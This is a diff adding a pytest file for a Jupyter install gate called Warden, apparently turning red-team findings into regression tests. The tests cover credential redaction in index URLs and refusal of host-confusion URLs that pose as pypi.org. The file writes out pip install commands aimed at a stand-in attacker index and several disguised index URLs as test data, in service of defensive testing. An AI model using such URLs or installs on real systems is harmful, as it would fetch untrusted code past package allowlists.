@@ -1,0 +1,101 @@
+"""The red team's install-gate findings (notes/red/FINDINGS.md, deps and events), each as a
+test that failed before its fix: secrets in events (E1-E3), index host confusion (D4), pip
+settings Warden did not read (D1, D2), option lines (D3), guard-less pip children (D5, D6) and
+separator imitations (finding 14)."""
+
+import json
+import sys
+
+import pytest
+from test_install_gate import POLICY, _assert_refused_before_pip, _installed, _pip
+
+from jupyterlab_warden.kernel.guard.installs import commands, decide
+from jupyterlab_warden.kernel.guard.installs.request import redact_url
+
+SECRETS = ("S3CRET1", "S3C/RET2", "RET2", "S3CRET3", "S3CRE$T4", "S3CRE")
+
+
+# -- E1-E3: no secret reaches a message or event ---------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://bob:S3CRET1@evil.example/simple",
+        "https://bob:S3C/RET2@evil.example/simple",  # "/" in the password
+        "https://evil.example/simple?private_token=S3CRET3",
+        "https://evil.example/simple#S3CRET3",
+        "https://bob:12/RET2@evil.example/simple",  # the password parses as a port
+    ],
+)
+def test_redacted_urls_keep_no_credential_query_or_fragment(url):
+    shown = redact_url(url)
+    assert not [s for s in SECRETS if s in shown], shown
+    assert shown.startswith(("https://", "<"))
+
+
+def test_an_unreadable_shell_install_names_the_construct_not_the_word():
+    with pytest.raises(commands.Unreadable) as raised:
+        commands.shell_invocations("pip install -i https://bob:S3CRE$T4@host/simple requests")
+    assert "S3CRE" not in str(raised.value) and "$ parameter" in str(raised.value)
+
+
+@pytest.mark.parametrize(
+    "index_args",
+    [
+        ["-i", "https://bob:S3C/RET2@evil.example/simple"],
+        ["-i", "https://evil.example/simple?private_token=S3CRET3"],
+    ],
+)
+def test_refusal_events_carry_no_index_secret(guarded, tmp_path, index_args):
+    result = guarded(POLICY, [sys.executable, "-m", "pip", "install", *index_args, "requests"])
+    assert result["type"] == "WardenBlockedInstall", result
+    blob = json.dumps(guarded.events()) + result["refused"]
+    assert "evil.example" in blob or "cannot parse" in blob
+    assert not [s for s in SECRETS if s in blob], blob
+
+
+def test_a_shell_install_refusal_event_does_not_quote_the_expanded_word(guarded, tmp_path):
+    result = guarded(POLICY, "pip install -i https://bob:S3CRE$T4@evil.example/simple requests")
+    assert result["type"] == "WardenBlockedInstall", result
+    events = guarded.events()
+    assert [e["rule_id"] for e in events] == ["install-unreadable"]
+    assert "S3CRE" not in json.dumps(events) + result["refused"]
+
+
+# -- D4: the host is what urlsplit (and so pip) connects to ----------------------------------
+
+
+@pytest.mark.parametrize(
+    ("url", "allowed"),
+    [
+        ("https://127.0.0.1:8443#@pypi.org/simple", False),
+        ("https://127.0.0.1:8443?@pypi.org/simple", False),
+        ("https://pypi.org@127.0.0.1/simple", False),
+        ("https://a@b@127.0.0.1/simple", False),
+        ("https://pypi.org.evil.example/simple", False),
+        ("https://pypi.org/simple/?x=1", False),
+        ("https://user:tok@pypi.org/simple/", True),
+        ("https://PyPI.org:443/simple", True),
+        ("https://pypi.org/simple/torch/", True),
+        ("https://pypi.org:8443/simple", False),
+    ],
+)
+def test_index_urls_are_decided_on_the_host_pip_connects_to(url, allowed):
+    assert decide.url_allowed(url, list(decide.DEFAULT_INDEXES)) is allowed
+
+
+def test_a_query_or_fragment_passes_only_when_trusted_exactly():
+    trusted = ["https://pkgs.example/simple?team=ml"]
+    assert decide.url_allowed("https://pkgs.example/simple?team=ml", trusted)
+    assert not decide.url_allowed("https://pkgs.example/simple?team=ops", trusted)
+
+
+@pytest.mark.parametrize("trick", ["#@pypi.org/simple", "?@pypi.org/simple"])
+def test_an_attacker_index_posing_as_pypi_is_refused_before_pip(guarded, index, tmp_path, trick):
+    index.requests.clear()
+    result = guarded(POLICY, _pip(tmp_path, index.base + trick, "warden-demo-pkg"))
+    _assert_refused_before_pip(
+        guarded, index, tmp_path, result, "install-index-not-allowed", ["127.0.0.1"]
+    )
+    assert not _installed(tmp_path, "warden-demo-pkg")
